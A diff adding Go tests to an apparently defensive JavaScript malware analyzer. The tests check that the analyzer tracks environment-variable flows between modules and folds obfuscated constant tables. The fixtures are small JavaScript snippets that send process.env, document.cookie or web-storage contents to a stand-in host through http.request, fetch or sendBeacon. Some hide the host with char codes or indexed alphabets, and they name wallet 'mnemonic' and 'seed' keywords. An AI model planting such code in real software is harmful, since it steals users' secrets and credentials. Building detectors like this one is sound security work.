@@ -1692,3 +1692,125 @@ const read = promisify(require("fs").readFile); read("a");`), DefaultLimits())
 		t.Error("only child_process functions are followed through promisify")
 	}
 }
+
+// A module's functions that return the whole environment are named as its
+// importers call them; calls handing the environment to another module's
+// function are recorded with the positions it is passed at.
+func TestModuleEnvFlows(t *testing.T) {
+	src := `const cache = require("./cache");
+const { loadAll } = require("./env");
+exports.snapshot = function () { return { ...process.env }; };
+export function collect() { const o = {}; for (const [k, v] of Object.entries(process.env)) o[k] = v; return o; }
+module.exports = function gather() { return JSON.stringify(process.env); };
+const pick = (e) => ({ ci: e.CI });
+function quiet() { return process.env.HOME; }
+const o = { dump() { return process.env; } };
+function config(opts) {
+  const expanded = Object.assign({}, process.env, opts);
+  cache.persist(opts.file, expanded);
+  cache.other(opts.file, process.env.HOME);
+}`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	got := slices.Sorted(slices.Values(f.EnvReturns))
+	if want := []string{"collect", "default", "dump", "snapshot"}; !slices.Equal(got, want) {
+		t.Errorf("EnvReturns %q, want %q", got, want)
+	}
+	if f.DefaultExport != "gather" {
+		t.Errorf("DefaultExport %q, want gather", f.DefaultExport)
+	}
+	var calls []string
+	for _, c := range f.ModuleCalls {
+		calls = append(calls, c.Callee+"/"+itoa(int(c.Env))+"@"+itoa(c.Pos.Line))
+	}
+	if want := []string{"./cache.persist/2@11"}; !slices.Equal(calls, want) {
+		t.Errorf("ModuleCalls %q, want %q (one variable is not the environment)", calls, want)
+	}
+}
+
+// Other modules' findings, handed in by the package's linking: a function
+// called with the environment elsewhere sees it in its parameter, and a
+// call of another module's function returning it is the environment,
+// also through a promise and a parameter's default.
+func TestModuleEnvSeeds(t *testing.T) {
+	send := `const http = require("http");
+exports.persist = function (file, vars) {
+  const body = JSON.stringify({ f: file, v: vars });
+  http.request({ host: "c.example.invalid", method: "POST" }).end(body);
+};`
+	sent := func(f *Facts) bool {
+		return slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && strings.HasPrefix(e.How, "sent:") })
+	}
+	if f := Analyze("cache.js", []byte(send), DefaultLimits()); sent(f) {
+		t.Fatalf("environment sent with no seed: %+v", f.Env)
+	}
+	lim := DefaultLimits()
+	lim.EnvParams = map[string]uint8{"persist": 1 << 1}
+	if f := Analyze("cache.js", []byte(send), lim); !sent(f) {
+		t.Errorf("parameter seeded with the environment not seen sent: %+v", f.Env)
+	}
+	lim.EnvParams = map[string]uint8{"persist": 1 << 2, "other": 1 << 1}
+	if f := Analyze("cache.js", []byte(send), lim); sent(f) {
+		t.Errorf("a parameter it lacks or another function seeded, yet the environment is sent: %+v", f.Env)
+	}
+	use := `import collect from "./collect.mjs";
+import { upload } from "./upload.mjs";
+const https = require("https");
+collect().then((data) => https.request(u).end(JSON.stringify(data)));
+function push(dst, labels = collect()) { fetch(dst, { method: "PUT", body: labels }); }
+let later; later = collect(); upload(later);`
+	lim = DefaultLimits()
+	lim.EnvResults = map[string]bool{"./collect.mjs": true}
+	f := Analyze("index.js", []byte(use), lim)
+	var hows []string
+	for _, e := range f.Env {
+		hows = append(hows, e.How+"@"+itoa(e.Pos.Line))
+	}
+	if want := []string{"sent:https.request().end@4", "sent:fetch@5"}; !slices.Equal(hows, want) {
+		t.Errorf("env uses %q, want %q", hows, want)
+	}
+	if len(f.ModuleCalls) != 1 || f.ModuleCalls[0].Callee != "./upload.mjs.upload" || f.ModuleCalls[0].Env != 1 {
+		t.Errorf("ModuleCalls %+v, want upload(later) with the environment", f.ModuleCalls)
+	}
+}
+
+// Constant tables read without being changed fold: an array also used
+// by slice or join, a string alphabet indexed by numbers (in the first
+// pass too, so destructuring takes the result apart), and char codes
+// spread from a constant array.
+func TestTableFolding(t *testing.T) {
+	f := Analyze("x.js", []byte(`var T = ["localStorage", "cookie", "sendBeacon", "https://", "c.example.invalid", "mnemonic", "seed"];
+var R = new RegExp(T.slice(5).join("|"));
+var c = document[T[1]]; navigator[T[2]](T[3] + T[4], c);`), DefaultLimits())
+	if hasCall(f, "navigator.sendBeacon") == nil || !slices.ContainsFunc(f.Members, func(m Member) bool { return m.Name == "document.cookie" }) {
+		t.Errorf("array read by slice and index not folded: calls %+v members %+v", f.Calls, f.Members)
+	}
+	f = Analyze("x.js", []byte(`const A = "0123456789./:-abcdefghijklmnopqrstuvwxyz";
+const ix = [1, 9, 8, 10, 5, 1, 10, 1, 0, 0, 10, 2, 3, 12, 8, 4, 4, 3];
+const [host, port] = ix.map((i) => A[i]).join("").split(":");
+require("http").request({ host, port });`), DefaultLimits())
+	if len(f.HostProps) != 1 || f.HostProps[0].Value != "198.51.100.23" {
+		t.Errorf("host destructured from an indexed alphabet: %+v", f.HostProps)
+	}
+	f = Analyze("x.js", []byte(`const EP = [104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 101, 120];
+fetch(String.fromCharCode(...EP), { method: "POST" });`), DefaultLimits())
+	if c := hasCall(f, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://c.ex" || !c.Args[0].Decoded {
+		t.Errorf("char codes spread from a constant array: %+v", c)
+	}
+	// a loop counter is no constant: each build directory is tried
+	f = Analyze("x.js", []byte(`var builds = ["Release", "Debug"];
+for (var i = 0; i < builds.length; i++) { try { require("./build/" + builds[i] + "/b.node"); break } catch (e) {} }`), DefaultLimits())
+	if hasImport(f, "./build/Release/b.node") {
+		t.Errorf("loop counter folded as its first value: %+v", f.Imports)
+	}
+	// but a web store picked from a constant table by it is a web store
+	f = Analyze("x.js", []byte(`var T = ["localStorage", "sessionStorage"], st;
+for (var j = 0; j < 2; j++) { st = window[T[j]]; for (var i = 0; i < st.length; i++) use(st.getItem(st.key(i))) }`), DefaultLimits())
+	if hasCall(f, "localStorage.key") == nil {
+		t.Errorf("store picked from a table: %+v", f.Calls)
+	}
+	// a written array does not fold, read by slice or not
+	f = Analyze("x.js", []byte(`var T = ["fs", "x"]; T.slice(1); T[0] = "child_process"; require(T[0]);`), DefaultLimits())
+	if hasImport(f, "fs") {
+		t.Errorf("written array folded: %+v", f.Imports)
+	}
+}
